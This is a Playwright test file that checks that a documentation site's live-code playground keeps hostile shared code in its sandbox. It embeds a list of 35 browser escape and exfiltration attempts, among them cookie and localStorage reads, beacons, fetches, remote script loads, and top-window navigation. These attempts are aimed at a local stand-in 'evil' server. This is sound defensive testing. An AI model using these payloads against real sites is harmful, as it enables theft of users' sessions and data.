import type { Page } from '@playwright/test';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { playgroundLink } from '../support/link-factory';
import { partsOf } from '../support/live-code';
import { expect, test } from '../support/site';

/** Working responses of the other site, by file extension. */
const answers: Record<string, [body: string, type: string]> = {
  '.js': ['export default 1', 'text/javascript'],
  '.css': ['a {}', 'text/css'],
  '.png': ['<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>', 'image/svg+xml'],
};

test('code from a hostile link can’t leave its sandbox @hostile', async ({ page, context }) => {
  const reached: string[] = [];
  const evil = createServer((request, response) => {
    reached.push(`${request.method} ${request.url}`);
    response.setHeader('access-control-allow-origin', '*');
    const [body, type] = answers[path.extname(request.url!)] ?? ['evil', 'text/html'];
    response.setHeader('content-type', type);
    response.end(body);
  });
  await new Promise<void>((done) => evil.listen(0, '127.0.0.1', done));
  const port = (evil.address() as AddressInfo).port;
  const there = `http://127.0.0.1:${port}`;
  expect(await (await fetch(`${there}/alive`)).text()).toBe('evil');

  await page.goto('/theming');
  await page.evaluate(() => {
    document.cookie = 'session=secret';
    localStorage.setItem('secret', 'secret');
  });
  const popups: Page[] = [];
  context.on('page', (popup) => popups.push(popup));

  const code = `
const attempts = {
  cookie: () => document.cookie,
  setCookie: () => (document.cookie = 'mine=1'),
  localStorage: () => localStorage.getItem('secret'),
  sessionStorage: () => sessionStorage.length + 1,
  indexedDB: () => new Promise((yes, no) => { const open = indexedDB.open('x'); open.onsuccess = () => yes('open'); open.onerror = no; }),
  caches: () => caches.keys().then(() => 'caches'),
  parentDocument: () => parent.document.title,
  topAddress: () => top.location.href,
  parentFunction: () => parent.eval('1'),
  frameElement: () => frameElement.src,
  topNavigation: () => { top.location = '${there}/top'; return undefined; },
  openWindow: () => window.open('${there}/popup'),
  openTop: () => window.open('${there}/open-top', '_top'),
  fetchThere: () => fetch('${there}/fetch').then(() => 'fetched'),
  fetchHere: () => fetch('/page-data/app-data.json').then((answer) => answer.text()),
  beacon: () => { navigator.sendBeacon('${there}/beacon', 'x'); return undefined; },
  xhr: () => new Promise((yes, no) => { const x = new XMLHttpRequest(); x.onload = () => yes('loaded'); x.onerror = no; x.open('GET', '${there}/xhr'); x.send(); }),
  picture: () => new Promise((yes, no) => { const i = new window.Image(); i.onload = () => yes('loaded'); i.onerror = no; i.src = '${there}/picture.png'; }),
  socket: () => new Promise((yes, no) => { const s = new WebSocket('ws://127.0.0.1:${port}/socket'); s.onopen = () => yes('open'); s.onerror = no; }),
  events: () => new Promise((yes, no) => { const s = new EventSource('${there}/events'); s.onopen = () => yes('open'); s.onerror = no; }),
  peer: () => new RTCPeerConnection(),
  worker: () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => yes('runs'); w.onerror = no; }),
  dataWorker: () => new Promise((yes, no) => { const w = new Worker('data:text/javascript,postMessage(1)'); w.onmessage = () => yes('runs'); w.onerror = no; }),
  sharedWorker: () => new Promise((yes, no) => { const w = new SharedWorker('data:text/javascript,onconnect=()=>0'); w.onerror = no; setTimeout(no, 300); }),
  serviceWorker: () => navigator.serviceWorker.register('/sw.js'),
  scriptThere: () => new Promise((yes, no) => { const s = document.createElement('script'); s.onload = () => yes('loaded'); s.onerror = no; s.src = '${there}/script.js'; document.head.append(s); }),
  inlineScript: () => { const s = document.createElement('script'); s.textContent = 'window.inlined = "ran"'; document.head.append(s); return window.inlined; },
  style: () => new Promise((yes, no) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.onload = () => yes('loaded'); l.onerror = no; l.href = '${there}/style.css'; document.head.append(l); }),
  styleImport: () => { const s = document.createElement('style'); s.textContent = '@import url(${there}/import.css); body { background: url(${there}/background.png) }'; document.head.append(s); return undefined; },
  moduleThere: () => import('${there}/module.js').then(() => 'loaded'),
  formTop: () => { const f = document.createElement('form'); f.action = '${there}/form-top'; f.target = '_top'; document.body.append(f); f.submit(); f.remove(); return undefined; },
  frameThere: () => new Promise((yes) => { const i = document.createElement('iframe'); i.onload = () => { i.remove(); yes(undefined); }; i.src = '${there}/frame'; document.body.append(i); }),
  blankFrame: () => { const i = document.createElement('iframe'); document.body.append(i); const found = i.contentWindow.RTCPeerConnection; i.remove(); return found; },
  history: () => { history.go(-1); return 'went'; },
  alert: () => { alert('evil'); return undefined; },
};
const results = Object.keys(attempts).map((name) =>
  new Promise((done) => {
    const settle = (value) => done(value === undefined || value === null || value === '' || value === false ? [] : [name + ': ' + String(value)]);
    setTimeout(() => done([]), 1500);
    try { Promise.resolve(attempts[name]()).then(settle, () => done([])); } catch { done([]); }
  }),
);
function Report() {
  const [found, setFound] = useState();
  useEffect(() => { Promise.all(results).then((lists) => setFound(lists.flat())); }, []);
  return <pre>{found ? 'tried ' + results.length + ', got: ' + JSON.stringify(found) : 'trying'}</pre>;
}
render(<Report />);`;
  // Make sure that the attempts work on a page without a sandbox and policy.
  const naive = await context.newPage();
  await naive.goto(`${there}/page`);
  const succeeded = await naive.evaluate(
    async (text) => {
      const names = await (0, eval)(`(async () => { ${text}
      const list = await Promise.all(results);
      return list.flat().map((line) => line.split(':')[0]);
    })()`);
      return names as string[];
    },
    code
      .slice(0, code.indexOf('function Report'))
      .replace(/topNavigation|openTop|formTop|history:/g, (name) => `// ${name}`),
  );
  expect(succeeded).toEqual(
    expect.arrayContaining(
      'setCookie sessionStorage indexedDB caches topAddress openWindow fetchThere xhr picture peer worker scriptThere inlineScript style moduleThere blankFrame'.split(
        ' ',
      ),
    ),
  );
  await naive.close();
  for (const popup of popups.splice(0)) await popup.close();
  reached.length = 0;
  await fetch(`${there}/alive`);

  const address = await playgroundLink(code);
  await page.goto(address);
  await page.getByRole('button', { name: 'Run' }).click();
  const { frame } = partsOf(page.getByRole('main'));
  await expect(frame.getByText(/^tried/)).toHaveText('tried 35, got: []', { timeout: 10_000 });
  expect(reached).toEqual(['GET /alive']);
  expect(popups).toEqual([]);
  await expect(page).toHaveURL(address);
  expect(await page.evaluate(() => document.cookie)).toBe('session=secret');

  // A click by the reader gives a page more rights.
  const clickCode = `
<button onClick={() => { window.open('${there}/click-popup'); try { top.location = '${there}/click-top'; } catch {} }}>Free tea</button>`;
  await page.goto('about:blank');
  await page.goto(await playgroundLink(clickCode));
  await page.getByRole('button', { name: 'Run' }).click();
  await frame.getByRole('button', { name: 'Free tea' }).click();
  await page.evaluate(() => new Promise((done) => setTimeout(done, 500)));
  await expect(page).toHaveTitle('Playground – Theme UI');

  // Links don't work either, with any mouse button.
  const linkCode = `
<a href="${there}/link" onClick={(event) => event.stopPropagation()} onAuxClick={(event) => event.stopPropagation()}>Tea</a>`;
  await page.goto('about:blank');
  await page.goto(await playgroundLink(linkCode));
  await page.getByRole('button', { name: 'Run' }).click();
  await frame.getByRole('link', { name: 'Tea' }).click();
  await frame.getByRole('link', { name: 'Tea' }).click({ button: 'middle' });
  await frame.getByRole('link', { name: 'Tea' }).click({ modifiers: ['ControlOrMeta'] });
  await page.evaluate(() => new Promise((done) => setTimeout(done, 500)));

  // The frame can't navigate there either, and code that tries is stopped.
  for (const leave of [
    `location.href = '${there}/leave'`,
    "location.href = '/theming'",
    "location.hash = 'a'",
    'location.reload()',
    `const f = document.createElement('form'); f.action = '${there}/form'; document.body.append(f); f.submit()`,
  ]) {
    await page.goto('about:blank');
    await page.goto(await playgroundLink(`() => { ${leave}; return <p>Leaving</p>; }`));
    await page.getByRole('button', { name: 'Run' }).click();
    await expect(
      page.getByText('Your code navigated away from its page, so it was stopped.'),
    ).toBeVisible();
  }
  expect(reached).toEqual(['GET /alive']);
  expect(popups).toEqual([]);
  await expect(page).toHaveTitle('Playground – Theme UI');
  evil.closeAllConnections();
  evil.close();
});
